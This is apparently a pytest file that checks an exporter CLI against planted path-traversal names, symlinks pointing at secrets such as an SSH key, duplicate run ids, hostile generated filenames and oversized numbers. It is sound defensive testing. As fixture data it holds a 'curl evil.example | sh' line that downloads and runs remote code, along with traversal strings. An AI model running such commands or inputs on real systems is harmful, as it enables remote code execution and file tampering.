"""Issue 11, findings 1 and 7: names and links planted in a run never steer a write, and hostile
numbers never crash the export. Real CLI (click), real runs on disk, nothing mocked."""

from __future__ import annotations

import json
import os
import stat
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from factories import CANARY_KEY, make_record, write_run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rollout_fixtures import codex_lines, write_jsonl

from exporter.cli import main
from exporter.export.command import export_command
from exporter.scan.inputs import CACHE_FILE_NAME

RUN = "demo-20261121T081500-a1b2c3"
KINGFISHER = Path(sys.executable).parent / "kingfisher"


def export(*args: str) -> Result:
    return CliRunner().invoke(export_command, [*args, "--no-scan"], env={"COLUMNS": "400"})


def snapshot(root: Path) -> dict[Path, bytes]:
    """Every regular file under `root` (links not followed) with its content."""
    files = {}
    for directory, _, names in os.walk(root):
        for name in names:
            path = Path(directory) / name
            if stat.S_ISREG(path.lstat().st_mode):
                files[path] = path.read_bytes()
    return files


def written_outside(before: dict[Path, bytes], after: dict[Path, bytes], *allowed: Path) -> list[Path]:
    """Files created or changed since `before`, except under the `allowed` roots."""
    return [
        path
        for path, content in after.items()
        if before.get(path) != content and not any(path.is_relative_to(root) for root in allowed)
    ]


@contextmanager
def system_temp(directory: Path) -> Iterator[Path]:
    """Point the exporter's temporary files at `directory`, so a test sees everything written there."""
    directory.mkdir(parents=True, exist_ok=True)
    saved = tempfile.tempdir
    tempfile.tempdir = str(directory)
    try:
        yield directory
    finally:
        tempfile.tempdir = saved


def plant(run: Path, **fields: object) -> None:
    info = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps(info | fields))


# --- finding 1: planted names ----------------------------------------------------------------------


@pytest.mark.parametrize("field", ["run_id", "agent"])
def test_a_planted_run_json_name_never_writes_outside_the_output(tmp_path: Path, field: str) -> None:
    victim = tmp_path / "home" / "victim"
    victim.mkdir(parents=True)
    runs = tmp_path / "runs"
    run = write_run(runs, RUN, [make_record()], traces={".bashrc": "curl evil.example | sh\n"})
    plant(run, **{field: "../" * 30 + str(victim).lstrip("/")})
    output = tmp_path / "out"
    before = snapshot(tmp_path)

    with system_temp(tmp_path / "tmp"):
        result = export(str(runs), "-o", str(output))

    assert result.exit_code == 0, result.output
    assert written_outside(before, snapshot(tmp_path), output) == []
    assert list(victim.iterdir()) == []
    # The hostile name is sanitised where it is read (the addon's rule) and said so.
    assert f"run.json {field} " in result.stderr and "is not a safe name" in result.stderr
    published = [path.relative_to(output).as_posix() for path in snapshot(output)]
    assert any(path.endswith("/.bashrc") for path in published)
    assert all(".." not in path.split("/") for path in published)


def test_two_runs_claiming_one_run_id_are_refused(tmp_path: Path) -> None:
    # A planted run with the id of a real one would otherwise overwrite or mix into its published files.
    runs = tmp_path / "runs"
    write_run(runs, RUN, [make_record()], traces={"s.jsonl": "{}\n"})
    impostor = write_run(runs, "zz-planted", [make_record()], traces={"s.jsonl": '{"evil": 1}\n'})
    plant(impostor, run_id=RUN)

    result = export(str(runs), "-o", str(tmp_path / "out"))

    assert result.exit_code == 2
    assert f"two runs have the run id {RUN}" in result.stderr
    assert not (tmp_path / "out").exists()


# --- finding 1: links --------------------------------------------------------------------------------


def test_a_symlink_in_traces_is_refused_by_name_and_never_copied(tmp_path: Path) -> None:
    secret = tmp_path / "home" / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    secret.write_text(CANARY_KEY)
    run = write_run(tmp_path / "runs", RUN, [make_record()], traces={"ok.jsonl": "{}\n"})
    os.symlink(secret, run / "traces" / "leak.txt")
    output = tmp_path / "out"

    with system_temp(tmp_path / "tmp") as temp:
        result = export(str(run), "-o", str(output), "--rollouts")

    assert result.exit_code == 2
    assert "traces/leak.txt is a symbolic link" in result.stderr
    assert "replace it with the file itself or delete it" in result.stderr
    for path, content in {**snapshot(output), **snapshot(temp)}.items():
        assert CANARY_KEY.encode() not in content, path


def test_a_symlinked_directory_inside_traces_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keys.txt").write_text(CANARY_KEY)
    run = write_run(tmp_path / "runs", RUN, [make_record()], traces={"ok.jsonl": "{}\n"})
    os.symlink(elsewhere, run / "traces" / "dir-link")

    result = export(str(run), "-o", str(tmp_path / "out"))

    assert result.exit_code == 2
    assert "traces/dir-link is a symbolic link" in result.stderr
    assert not (tmp_path / "out").exists() or all(
        CANARY_KEY.encode() not in content for content in snapshot(tmp_path / "out").values()
    )


def test_a_symlinked_captures_file_is_refused(tmp_path: Path) -> None:
    elsewhere = write_run(
        tmp_path / "elsewhere", "real", [make_record(messages=[{"role": "user", "content": CANARY_KEY}])]
    )
    run = write_run(tmp_path / "runs", RUN, [make_record()])
    (run / "captures.jsonl").unlink()
    os.symlink(elsewhere / "captures.jsonl", run / "captures.jsonl")

    result = export(str(run), "-o", str(tmp_path / "out"))

    assert result.exit_code == 2
    assert "captures.jsonl is a symbolic link" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_symlinked_run_directory_is_skipped_by_all_and_refused_by_name(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    write_run(runs, RUN, [make_record()])
    other = write_run(
        tmp_path / "other-user", "theirs", [make_record(messages=[{"role": "user", "content": CANARY_KEY}])]
    )
    os.symlink(other, runs / "theirs")
    output = tmp_path / "out"

    result = export("--all", "--runs-dir", str(runs), "-o", str(output))

    assert result.exit_code == 0, result.output
    assert f"{runs / 'theirs'}: a symbolic link, not read as a run" in result.stderr
    assert all(CANARY_KEY.encode() not in content for content in snapshot(output).values())

    by_id = export("theirs", "--runs-dir", str(runs), "-o", str(tmp_path / "out2"))
    assert by_id.exit_code == 2
    assert "theirs: a symbolic link, not read as a run" in by_id.stderr


def test_traces_collect_never_writes_through_a_planted_link(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    run = write_run(runs, RUN, [make_record(seq=1)], agent="codex")
    plant(run, started_at="2026-02-03T09:10:00Z", ended_at="2026-02-03T09:45:00Z")
    record = json.loads((run / "captures.jsonl").read_text()) | {"captured_at": 1770109900.0}
    (run / "captures.jsonl").write_text(json.dumps(record) + "\n")
    victim = tmp_path / "victim"
    victim.mkdir()
    os.symlink(victim, run / "traces")  # the run's traces/ points somewhere else
    sessions = tmp_path / "codex-home" / "sessions"
    write_jsonl(sessions / "2026/02/03/rollout-2026-02-03T09-20-00-x.jsonl", codex_lines())
    before = snapshot(tmp_path)

    result = CliRunner().invoke(
        main, ["traces", "collect", RUN, "--agent", "codex", "--from", str(sessions), "--runs-dir", str(runs)]
    )

    assert result.exit_code == 2, result.output
    assert "traces is a symbolic link" in result.stderr
    assert written_outside(before, snapshot(tmp_path)) == []
    assert list(victim.iterdir()) == []


def test_traces_collect_never_follows_a_link_among_the_sessions(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    run = write_run(runs, RUN, [make_record(seq=1)], agent="codex")
    plant(run, started_at="2026-02-03T09:10:00Z", ended_at="2026-02-03T09:45:00Z")
    record = json.loads((run / "captures.jsonl").read_text()) | {"captured_at": 1770109900.0}
    (run / "captures.jsonl").write_text(json.dumps(record) + "\n")
    real = write_jsonl(tmp_path / "private" / "session.jsonl", codex_lines())
    sessions = tmp_path / "codex-home" / "sessions"
    (sessions / "2026/02/03").mkdir(parents=True)
    # The recorded agent can write its own session folder: a link there must not export another file.
    os.symlink(real, sessions / "2026/02/03/rollout-2026-02-03T09-20-00-x.jsonl")

    result = CliRunner().invoke(
        main, ["traces", "collect", RUN, "--agent", "codex", "--from", str(sessions), "--runs-dir", str(runs)]
    )

    assert result.exit_code == 2, result.output
    assert "is a symbolic link" in result.stderr
    assert not (run / "traces").exists() or snapshot(run / "traces") == {}


# --- property: no hostile name ever writes outside the output root -----------------------------------

# Names are built from pieces an attacker would use: traversal, absolute paths, separators, controls.
HOSTILE = st.lists(
    st.sampled_from(
        ["..", "../", "/", "/etc/", "\\", "C:\\", "~", ".", "-", "$HOME", "\n", "\x00", "é", "a", "b1"]
    ),
    max_size=12,
).map("".join)
FILE_PART = (
    st.lists(
        st.sampled_from([".", "..", "\\", "~", ":", "*", " ", "\t", "é", "a", "-", "_"]),
        min_size=1,
        max_size=6,
    )
    .map("".join)
    .filter(lambda name: name not in (".", ".."))
)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    run_id=HOSTILE,
    agent=HOSTILE,
    task=HOSTILE,
    traces=st.lists(st.lists(FILE_PART, min_size=1, max_size=3), min_size=0, max_size=3),
    scanned=st.booleans(),
)
def test_no_hostile_name_ever_writes_outside_the_output_root(
    run_id: str, agent: str, task: str, traces: list[list[str]], scanned: bool
) -> None:
    with tempfile.TemporaryDirectory() as scratch:
        sandbox = Path(scratch)
        runs = sandbox / "runs"
        records = [make_record(seq=1, task_id=task), make_record(seq=2, task_id=task, stream=True)]
        files = {"/".join(parts): "{}\n" for parts in traces}
        files = {
            name: content
            for name, content in files.items()
            if not any(other != name and other.startswith(name + "/") for other in files)
        }
        run = write_run(runs, "r1", records, agent="demo", traces=files)
        plant(run, run_id=run_id, agent=agent)
        output = sandbox / "out"
        before = snapshot(sandbox)

        # With the scan (real kingfisher): its report, views and cache are writes too.
        scan = (
            ["--scanner", "kingfisher", "--no-verify"] if scanned and KINGFISHER.exists() else ["--no-scan"]
        )

        with system_temp(sandbox / "tmp"):
            result = CliRunner().invoke(
                export_command, [str(runs), "-o", str(output), "--rollouts", *scan], env={"COLUMNS": "400"}
            )

        assert result.exit_code in (0, 2), result.output
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        # The scan cache is the one file written into a run (docs/scan.md, "Cache").
        assert written_outside(before, snapshot(sandbox), output, run / CACHE_FILE_NAME) == []


# --- finding 7: numbers out of range ------------------------------------------------------------------


@pytest.mark.parametrize("turn", [99999999999999999999, 10**40])
def test_an_out_of_range_turn_is_a_malformed_line_not_a_crash(tmp_path: Path, turn: int) -> None:
    runs = tmp_path / "runs"
    run = write_run(runs, RUN, [make_record(seq=1), make_record(seq=2)])
    lines = (run / "captures.jsonl").read_text().splitlines()
    lines[1] = lines[1].replace('"turn":1', f'"turn":{turn}')
    (run / "captures.jsonl").write_text("\n".join(lines) + "\n")

    result = export(str(runs), "-o", str(tmp_path / "out"), "--rollouts")

    assert result.exit_code == 0, result.output
    assert result.exception is None
    assert "captures.jsonl:2: skipping malformed record" in result.stderr
    assert "`$.turn`" in result.stderr

    strict = export(str(runs), "-o", str(tmp_path / "strict"), "--strict")
    assert strict.exit_code == 2
    assert "captures.jsonl:2: malformed record" in strict.stderr and "Traceback" not in strict.output
